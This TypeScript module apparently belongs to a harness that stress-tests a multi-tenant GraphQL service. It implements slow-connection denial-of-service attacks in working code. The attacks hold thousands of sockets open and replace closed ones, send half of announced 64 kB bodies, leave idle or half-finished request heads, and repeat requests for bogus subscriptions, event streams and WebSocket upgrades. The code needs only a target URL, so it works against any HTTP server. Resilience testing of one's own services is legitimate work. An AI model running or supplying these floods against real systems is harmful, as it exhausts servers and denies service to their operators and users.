/** Attacks by keeping connections open. */
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Ground } from "./attack.ts";

interface Kept {
  /** The number of connections to keep open. */
  readonly many: number;
  /** What a connection sends first. */
  readonly greeting: (ordinal: number) => string | Buffer;
  /** Pause between an answer and the next greeting on the same connection; unset: it sends nothing more. */
  readonly againMs?: number;
}

/** New connections per millisecond, at first and as a replacement for closed ones. */
const perMs = { first: 5, again: 0.5 };
const tickMs = 10;
/** Bounds the burst after this process itself was held up. */
const mostAtOnce = 250;
/** The status is within the first bytes of an answer. */
const statusBytes = 16;

/**
 * Keeps connections open until the time is up and replaces those that are closed. Each greeting counts as sent; it is refused if
 * the host closes the connection or answers with an error.
 */
class Keeper {
  readonly #ground: Ground;
  readonly #kept: Kept;
  readonly #open = new Set<Socket>();
  #opened = 0;
  #most: number;

  constructor(ground: Ground, kept: Kept) {
    this.#ground = ground;
    this.#kept = kept;
    this.#most = kept.many;
  }

  async run(): Promise<void> {
    const { many } = this.#kept;
    let beforeMs = performance.now();
    while (!this.#ground.isOver) {
      const nowMs = performance.now();
      const due = Math.ceil((nowMs - beforeMs) * (this.#opened < many ? perMs.first : perMs.again));
      const now = Math.min(this.#most - this.#open.size, many * 5 - this.#opened, due, mostAtOnce);
      for (let n = 0; n < now; n += 1) this.#connect();
      beforeMs = nowMs;
      await sleep(tickMs);
    }
    for (const socket of this.#open) socket.destroy();
  }

  #connect(): void {
    const ordinal = this.#opened++;
    const { hostname, port } = new URL(this.#ground.target.url);
    const socket = connect({ host: hostname, port: Number(port) });
    this.#open.add(socket);
    /** Whether a greeting was sent that has no outcome yet. */
    let waiting = false;
    const greet = (): void => {
      if (!socket.writable || this.#ground.isOver) return;
      waiting = true;
      this.#ground.counts.sent += 1;
      socket.write(this.#kept.greeting(ordinal));
    };
    const end = (how: "answered" | "refused", outcome: string): void => {
      if (waiting && !this.#ground.isOver) this.#ground.ended(how, outcome);
      waiting = false;
    };
    socket.on("connect", greet);
    socket.on("data", (data) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString("latin1", 0, statusBytes))?.[1];
      if (status === undefined) return;
      end(status < "400" ? "answered" : "refused", status);
      if (this.#kept.againMs !== undefined) setTimeout(greet, this.#kept.againMs);
    });
    socket.on("error", (error) => {
      const code = "code" in error ? String(error.code) : "failed";
      // The process has no file descriptors left: it attacks with the connections that it has.
      if (code === "EMFILE") this.#most = Math.min(this.#most, this.#open.size - 1);
      end("refused", code);
    });
    socket.on("close", () => {
      this.#open.delete(socket);
      end("refused", "closed");
    });
  }
}

const keepOpen = (ground: Ground, kept: Kept): Promise<void> => new Keeper(ground, kept).run();

const head = (ground: Ground, lines: readonly string[], method = "POST"): string => {
  const { host, pathname } = new URL(ground.target.url);
  return [`${method} ${pathname} HTTP/1.1`, `Host: ${host}`, ...lines, "", ""].join("\r\n");
};

const announcedBytes = 64 * 1024;

export const halfBodies: Attack = {
  does: "Opens 4000 connections, announces a body of 64 kB on each, and sends half of it.",
  run(ground) {
    const [tenant = ""] = ground.target.attackers;
    const lines = [
      `x-tenant: ${tenant}`,
      "Content-Type: application/json",
      `Content-Length: ${announcedBytes}`,
    ];
    const greeting = Buffer.from(`${head(ground, lines)}{"query":"${" ".repeat(announcedBytes / 2)}`);
    return keepOpen(ground, { many: 4_000, greeting: () => greeting });
  },
};

export const idleSockets: Attack = {
  does: "Keeps 5000 connections open, more than the listener accepts, sends nothing or half a request head, and replaces those that are closed.",
  run(ground) {
    const half = head(ground, []).slice(0, -4);
    return keepOpen(ground, { many: 5_000, greeting: (ordinal) => (ordinal % 2 === 0 ? "" : half) });
  },
};

/** The requests of clients that want to subscribe: by POST, by GET for an event stream, and by WebSocket. */
function subscribing(ground: Ground): string[] {
  const [tenant = ""] = ground.target.attackers;
  const body = JSON.stringify({ query: "subscription { t1ItemChanged { name } }" });
  const named = `x-tenant: ${tenant}`;
  const events = "Accept: text/event-stream";
  const posted = head(ground, [
    named,
    events,
    "Content-Type: application/json",
    `Content-Length: ${body.length}`,
  ]);
  const upgrade = [
    named,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Protocol: graphql-transport-ws",
    `Sec-WebSocket-Key: ${Buffer.alloc(16, 1).toString("base64")}`,
  ];
  return [`${posted}${body}`, head(ground, [named, events], "GET"), head(ground, upgrade, "GET")];
}

export const subscriptions: Attack = {
  does: "Asks for subscriptions, event streams and WebSocket upgrades that do not exist, on 300 connections, again half a second after each answer.",
  run(ground) {
    const ways = subscribing(ground);
    return keepOpen(ground, {
      many: 300,
      greeting: (ordinal) => ways[ordinal % ways.length] ?? "",
      againMs: 500,
    });
  },
};
